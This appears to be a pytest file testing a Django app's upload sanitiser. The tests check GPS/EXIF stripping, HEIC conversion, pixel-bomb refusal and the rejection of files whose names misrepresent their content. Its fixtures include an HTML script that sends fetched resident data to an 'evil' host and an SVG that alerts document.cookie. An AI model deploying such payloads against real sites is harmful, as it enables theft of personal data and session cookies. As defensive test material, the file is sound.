"""Uploads are judged by their content, never their name: pictures are decoded and written anew
without their metadata (a phone photo's GPS position of a resident's home), HEIC becomes JPEG,
documents must carry their signature, and SVG, HTML and programs are refused however named."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from jilin_grid.testing.files import office, pdf, picture
from jilin_grid.uploads import UploadRefused, clean_upload

PHOTOS = {
    ".jpg": "image/jpeg",
    ".jpeg": "image/jpeg",
    ".png": "image/png",
    ".webp": "image/webp",
    ".heic": "image/heic",
}
ATTACHMENTS = {".png": "image/png", ".pdf": "application/pdf", ".xlsx": "x", ".docx": "x", ".doc": "x"}
HTML = b"<!doctype html><script>fetch('/api/people/').then(r=>r.text()).then(t=>location='http://evil/?'+t)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="9" height="9"/></svg>'


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def test_a_phone_photo_loses_its_exif_and_gps_but_keeps_its_picture():
    original = picture("JPEG", (40, 30), gps=True)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the GPS position is there

    stored, content_type = clean_upload(upload("门口.jpg", original), PHOTOS)

    data = stored.read()
    assert content_type == "image/jpeg" and stored.name == "门口.jpg"
    image = Image.open(io.BytesIO(data))
    assert image.size == (40, 30)
    assert not image.getexif() and b"Exif" not in data and b"PhoneMaker" not in data


def test_heic_from_a_phone_becomes_a_jpeg_every_browser_shows():
    pytest.importorskip("pillow_heif").register_heif_opener()
    buffer = io.BytesIO()
    Image.new("RGB", (16, 12), (10, 120, 200)).save(buffer, format="HEIF")
    stored, content_type = clean_upload(upload("IMG_0001.heic", buffer.getvalue()), PHOTOS)
    assert content_type == "image/jpeg" and stored.name == "IMG_0001.jpg"
    assert Image.open(io.BytesIO(stored.read())).format == "JPEG"


@pytest.mark.parametrize(
    ("name", "content"),
    [("照片.png", HTML), ("照片.jpg", SVG), ("照片.jpg", b"MZ\x90\x00 a program"), ("照片.webp", pdf())],
)
def test_what_is_not_a_picture_is_refused_whatever_its_name(name, content):
    with pytest.raises(UploadRefused, match="is not a picture"), translation.override("en"):
        clean_upload(upload(name, content), PHOTOS)


def _png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims a size far larger than its few bytes (a pixel bomb)."""
    data = picture("PNG", (1, 1))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return data[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + data[33:]


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_decoded(settings):
    settings.UPLOAD_MAX_IMAGE_PIXELS = 40_000_000
    with pytest.raises(UploadRefused, match="million pixels"), translation.override("en"):
        clean_upload(upload("大图.png", _png_claiming(30_000, 30_000)), PHOTOS)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("报表.xlsx", b"MZ\x90\x00 a program renamed"),
        ("方案.pdf", b"not a pdf at all"),
        ("纪要.docx", office(".xlsx")),  # a workbook named as a document
        ("旧版.doc", pdf()),
        ("页面.png", HTML),
    ],
)
def test_a_document_must_be_what_its_name_says(name, content):
    with pytest.raises(UploadRefused):
        clean_upload(upload(name, content), ATTACHMENTS)


def test_real_documents_are_accepted_as_they_are():
    for name, content in (("方案.pdf", pdf()), ("纪要.docx", office(".docx")), ("报表.xlsx", office(".xlsx"))):
        stored, content_type = clean_upload(upload(name, content), ATTACHMENTS)
        assert stored.read() == content and content_type


def test_a_kind_not_accepted_is_refused_by_its_name():
    with pytest.raises(UploadRefused, match="not a kind of file accepted"), translation.override("en"):
        clean_upload(upload("图.svg", SVG), PHOTOS)


@pytest.mark.django_db
def test_a_problem_photo_is_stored_without_its_gps(settings, tmp_path):
    from grids.problems import services
    from grids.tests.factories import GridFactory, ProblemCategoryFactory

    problem = services.problem_record(
        grid=GridFactory(),
        category=ProblemCategoryFactory(),
        description="楼道灯不亮",
        resident_name="钱先生",
        photos=[upload("楼道.jpg", picture("JPEG", gps=True))],
    )
    photo = problem.photos.get()
    with photo.image.open("rb") as handle:
        stored = handle.read()
    assert b"Exif" not in stored and photo.original_name == "楼道.jpg"
